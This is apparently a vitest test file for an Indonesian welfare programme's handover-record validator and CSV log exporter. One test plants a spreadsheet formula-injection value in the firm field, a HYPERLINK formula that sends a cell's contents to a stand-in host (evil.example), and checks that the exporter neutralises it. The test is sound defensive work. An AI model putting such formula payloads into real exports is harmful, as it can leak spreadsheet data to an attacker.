/**
 * Issue 16 point 4: the handover record (BAST, core/partner/bast.ts) and its CSV log
 * (export/bast-log.ts): validation, the log's round trip, and a hostile name neutralised in the CSV.
 */
import { describe, expect, it } from 'vitest';
import { CodedError, type CodedMessage } from '../../src/lib/core/messages';
import { bastSummary } from '../../src/lib/core/partner/bast';
import { addBast, checkBast, validateBast, type BastInput, type BastRecord } from '../../src/lib/core/partner/bast-record';
import { decryptEnvelope, encryptEnvelope } from '../../src/lib/core/partner/envelope';
import { sha256Hex } from '../../src/lib/core/sha256';
import { BAST_LOG_COLUMNS, bastLogCsv, parseBastLog } from '../../src/lib/export/bast-log';
import { errorWords } from '../../src/lib/words';

const SHA = 'a'.repeat(64);

const RECORD: BastRecord = {
	number: '001/BAST/DINSOS/2025',
	handedOverAt: '2025-03-01T10:00:00+07:00',
	programme: 'rtlh',
	pledgeId: 'p1',
	units: 12,
	fileName: 'bnba-pledge-p1.csv.tepat',
	fileSha256: SHA,
	firm: 'PT Maju Bersama',
	recipientName: 'Siti Aminah',
	recipientContact: '+62 812 3456 7890',
	officerName: 'Budi Santoso, S.Sos',
	officerPosition: 'Kepala Bidang Penanganan Fakir Miskin'
};

/** The coded message `run` throws; fails the test when it returns or throws anything else. */
function thrown(run: () => unknown): CodedMessage {
	try {
		run();
	} catch (error) {
		expect(error).toBeInstanceOf(CodedError);
		return (error as CodedError).said;
	}
	throw new Error('expected a refusal');
}

const refusedField = (input: BastInput): { field: string; code: string } => {
	const said = thrown(() => validateBast(input));
	if (said.code !== 'partner.bast_field_refused') throw new Error(`unexpected ${said.code}`);
	return { field: said.params.field, code: said.params.reason.code };
};

describe('BAST record', () => {
	it('keeps a valid record, trimmed, with the checksum in lowercase and the count as a number', () => {
		expect(validateBast(RECORD)).toEqual(RECORD);
		const typed = { ...RECORD, firm: '  PT Maju Bersama ', units: ' 12 ', fileSha256: SHA.toUpperCase() };
		expect(validateBast(typed)).toEqual(RECORD);
		expect(validateBast({ ...RECORD, handedOverAt: '2025-03-01T03:00Z' }).handedOverAt).toBe('2025-03-01T03:00Z');
	});

	it('refuses each kind of wrong field with a coded error naming it', () => {
		expect(refusedField({ ...RECORD, number: '  ' })).toEqual({ field: 'number', code: 'partner.bast_required' });
		expect(refusedField({ ...RECORD, recipientContact: '' })).toEqual({ field: 'recipientContact', code: 'partner.bast_required' });
		expect(refusedField({ ...RECORD, firm: 'PT A\nPT B' })).toEqual({ field: 'firm', code: 'partner.bast_one_line' });
		expect(refusedField({ ...RECORD, number: 'x'.repeat(101) })).toEqual({ field: 'number', code: 'partner.bast_too_long' });
		expect(refusedField({ ...RECORD, officerPosition: 'x'.repeat(201) })).toEqual({
			field: 'officerPosition',
			code: 'partner.bast_too_long'
		});
		for (const units of [0, -1, 1.5, Number.NaN, '12a', '', '1e3']) {
			expect(refusedField({ ...RECORD, units })).toEqual({ field: 'units', code: 'partner.bast_units' });
		}
		for (const handedOverAt of ['2025-03-01', '2025-03-01T10:00:00', '2025-02-30T10:00:00+07:00', '2025-03-01T24:00:00Z', 'kemarin']) {
			expect(refusedField({ ...RECORD, handedOverAt })).toEqual({ field: 'handedOverAt', code: 'partner.bast_datetime' });
		}
		expect(refusedField({ ...RECORD, fileSha256: 'abc' })).toEqual({ field: 'fileSha256', code: 'partner.bast_sha256' });
		expect(refusedField({ ...RECORD, fileSha256: 'g'.repeat(64) })).toEqual({ field: 'fileSha256', code: 'partner.bast_sha256' });
		// The first problem in field order.
		expect(checkBast({ ...RECORD, number: '', firm: '' })).toMatchObject({ ok: false, problem: { field: 'number' } });
	});

	it('words a refusal in Indonesian and English, with the field named', () => {
		let error: unknown;
		try {
			validateBast({ ...RECORD, units: 0 });
		} catch (e) {
			error = e;
		}
		expect(errorWords(error, 'en')).toBe('Handover record (BAST): number of units must be a whole number from 1 (written: 0).');
		expect(errorWords(error, 'id')).toBe('Berita acara serah terima (BAST): jumlah unit harus bilangan bulat mulai 1 (tertulis 0).');
	});

	it('adds to a log, refusing a number already there', () => {
		const log = addBast([], RECORD);
		const second = { ...RECORD, number: '002/BAST/DINSOS/2025', pledgeId: 'p2' };
		expect(addBast(log, second)).toEqual([RECORD, second]);
		expect(thrown(() => addBast(log, { ...RECORD, firm: 'PT Lain' }))).toEqual({
			code: 'partner.bast_number_taken',
			params: { number: RECORD.number }
		});
	});

	it('its summary for the encrypted file names no person', () => {
		const summary = bastSummary(RECORD);
		expect(Object.keys(summary).sort()).toEqual(['firm', 'handedOverAt', 'number', 'pledgeId', 'programme', 'units']);
		expect(JSON.stringify(summary)).not.toContain('Siti');
		expect(JSON.stringify(summary)).not.toContain('Budi');
	});
});

describe('BAST log (CSV)', () => {
	const second: BastRecord = {
		...RECORD,
		number: '002/BAST/DINSOS/2025',
		pledgeId: 'p2',
		units: 3,
		firm: 'CV "Sejahtera", Tbk',
		recipientName: 'Désa Ayu',
		recipientContact: '-',
		fileSha256: 'b'.repeat(64)
	};

	it('a fixed header, one row per record, and the same records read back', () => {
		const csv = bastLogCsv([RECORD, second]);
		const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
		expect(lines[0]).toBe(
			'number,handed_over_at,programme,pledge_id,units,file_name,file_sha256,firm,recipient_name,recipient_contact,officer_name,officer_position'
		);
		expect(BAST_LOG_COLUMNS).toHaveLength(12);
		expect(lines).toHaveLength(4); // header, two rows, the final CRLF
		expect(parseBastLog(csv)).toEqual([RECORD, second]);
		expect(parseBastLog(bastLogCsv([RECORD, second], { delimiter: ';', bom: false }))).toEqual([RECORD, second]);
		expect(parseBastLog(bastLogCsv([RECORD, second], { delimiter: '\t' }))).toEqual([RECORD, second]);
		// A phone number's '+' is neutralised on the way out and restored on the way in.
		expect(lines[1]).toContain(",'+62 812 3456 7890,");
		// LF line ends (a log saved by another editor) read the same.
		expect(parseBastLog(csv.replaceAll('\r\n', '\n'))).toEqual([RECORD, second]);
	});

	it('an empty log, and a log of only its header', () => {
		expect(parseBastLog('')).toEqual([]);
		expect(parseBastLog(bastLogCsv([]))).toEqual([]);
	});

	it('neutralises a hostile firm name in the CSV and still reads it back as written', () => {
		const hostile = { ...RECORD, firm: '=HYPERLINK("http://evil.example/?x="&A1,"Klik")', recipientName: '@SUM(1+1)' };
		const csv = bastLogCsv([hostile]);
		const row = csv.split('\r\n')[1] ?? '';
		expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"`);
		expect(row).toContain(",'@SUM(1+1),");
		// No cell of the row starts with a formula character.
		for (const cell of row.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
		expect(parseBastLog(csv)).toEqual([hostile]);
	});

	it('refuses to write an invalid record or a number twice', () => {
		expect(thrown(() => bastLogCsv([{ ...RECORD, units: 0 }])).code).toBe('partner.bast_field_refused');
		expect(thrown(() => bastLogCsv([RECORD, RECORD])).code).toBe('partner.bast_number_taken');
	});

	it('refuses a changed header, a row of the wrong width, a bad field, an open quote or a number twice, naming the line', () => {
		const csv = bastLogCsv([RECORD, second]).replace(/^\uFEFF/, '');
		const [header = '', row1 = '', row2 = ''] = csv.split('\r\n');
		expect(thrown(() => parseBastLog(csv.replace('firm', 'perusahaan'))).code).toBe('partner.bast_log_header');
		expect(thrown(() => parseBastLog(`${header}\r\n${row1},extra\r\n`))).toEqual({
			code: 'partner.bast_log_row_cells',
			params: { line: '2', count: '13', expected: '12' }
		});
		expect(thrown(() => parseBastLog(`${header}\r\n${row1}\r\n${row2.replace(',3,', ',tiga,')}\r\n`))).toEqual({
			code: 'partner.bast_log_row_refused',
			params: { line: '3', field: 'units', reason: { code: 'partner.bast_units', params: { value: 'tiga' } } }
		});
		expect(thrown(() => parseBastLog(`${header}\r\n"001,2025\r\n`))).toEqual({ code: 'partner.bast_log_quote', params: { line: '2' } });
		expect(thrown(() => parseBastLog(`${header}\r\n${row1}\r\n${row1}\r\n`))).toEqual({
			code: 'partner.bast_number_taken',
			params: { number: RECORD.number }
		});
		let error: unknown;
		try {
			parseBastLog(`${header}\r\n${row1.replace(SHA, 'xyz')}\r\n`);
		} catch (e) {
			error = e;
		}
		expect(errorWords(error, 'en')).toBe(
			'BAST log, line 2: file SHA-256 must be a SHA-256 checksum of 64 hexadecimal characters (written: xyz).'
		);
	});

	it('a quoted cell holding a line break keeps the later rows on their own lines', () => {
		// Written by hand: bastLogCsv refuses a line break, but an edited log might hold one.
		const csv = bastLogCsv([RECORD, second]).replace(/^\uFEFF/, '');
		const [header = '', row1 = '', row2 = ''] = csv.split('\r\n');
		const broken = `${header}\r\n${row1.replace('PT Maju Bersama', '"PT Maju\r\nBersama"')}\r\n${row2.replace(',3,', ',0,')}\r\n`;
		expect(thrown(() => parseBastLog(broken))).toMatchObject({
			code: 'partner.bast_log_row_refused',
			params: { line: '2', field: 'firm' }
		});
		const fixedFirst = `${header}\r\n${row1}\r\n\r\n${row2.replace(',3,', ',0,')}\r\n`;
		expect(thrown(() => parseBastLog(fixedFirst))).toMatchObject({ params: { line: '4', field: 'units' } });
	});
});

describe('handover: encrypted file, its checksum in the BAST, the log', () => {
	it('the checksum recorded is that of the whole file handed over', async () => {
		const plain = new TextEncoder().encode('nik,nama\r\n3201010101010001,Siti Aminah\r\n');
		const draft = { ...RECORD, fileSha256: '' };
		const file = await encryptEnvelope(
			plain,
			'kuda-laut-biru-7',
			{ contentType: 'text/csv', fileName: 'bnba-pledge-p1.csv', createdAt: draft.handedOverAt, bast: bastSummary(draft) },
			{ iterations: 1000, minIterations: 1000 }
		);
		const record = validateBast({ ...draft, fileSha256: await sha256Hex(file) });
		const [logged] = parseBastLog(bastLogCsv([record]));
		expect(logged?.fileSha256).toBe(await sha256Hex(file));
		const { header } = await decryptEnvelope(file, 'kuda-laut-biru-7', { minIterations: 1000 });
		expect(header.meta.bast).toEqual(bastSummary(record));
	});
});
